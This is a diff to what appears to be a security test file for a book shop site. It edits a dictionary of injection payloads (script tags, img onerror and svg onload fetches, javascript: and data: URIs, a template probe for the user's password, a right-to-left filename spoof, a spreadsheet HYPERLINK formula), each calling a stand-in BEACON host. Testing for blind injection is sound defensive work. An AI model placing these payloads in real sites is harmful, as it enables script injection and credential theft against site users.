@@ -11,17 +11,17 @@ from tests.site.books import shop_pages
 
 # BEACON stands for the beacon's address. Short ones, for fields that hold no more.
 PAYLOADS = {
-    "script": "<script src=//BEACON/a></script>",
-    "image": "\"'><img src=//BEACON/b onerror=fetch('//BEACON/c')>",
-    "svg": "<svg onload=fetch('//BEACON/d')>",
-    "javascript": "javascript:fetch('//BEACON/e')//",
-    "data": "data:text/html,<script src=//BEACON/f></script>",
-    "closing": "</script><script>fetch('//BEACON/g')</script>",
+    "script": "<script src=http://BEACON/a></script>",
+    "image": "\"'><img src=http://BEACON/b onerror=fetch('http://BEACON/c')>",
+    "svg": "<svg onload=fetch('http://BEACON/d')>",
+    "javascript": "javascript:fetch('http://BEACON/e')//",
+    "data": "data:text/html,<script src=http://BEACON/f></script>",
+    "closing": "</script><script>fetch('http://BEACON/g')</script>",
     "template": "{{ request.user.password }}{% debug %}${7*7}",
-    "turned": "\u202egpj.exe\u2066\u200b<b onclick=fetch('//BEACON/h')>x",
-    "style": "</title><style>@import '//BEACON/i'</style>",
-    "frame": "--><iframe src=//BEACON/j></iframe>",
-    "refresh": "<meta http-equiv=refresh content='0;url=//BEACON/k'>",
+    "turned": "\u202egpj.exe\u2066\u200b<b onclick=fetch('http://BEACON/h')>x",
+    "style": "</title><style>@import 'http://BEACON/i'</style>",
+    "frame": "--><iframe src=http://BEACON/j></iframe>",
+    "refresh": "<meta http-equiv=refresh content='0;url=http://BEACON/k'>",
     "formula": '=HYPERLINK("http://BEACON/l")',
 }
 LONG = "very <b>long</b> " * 300  # about 5,000 characters
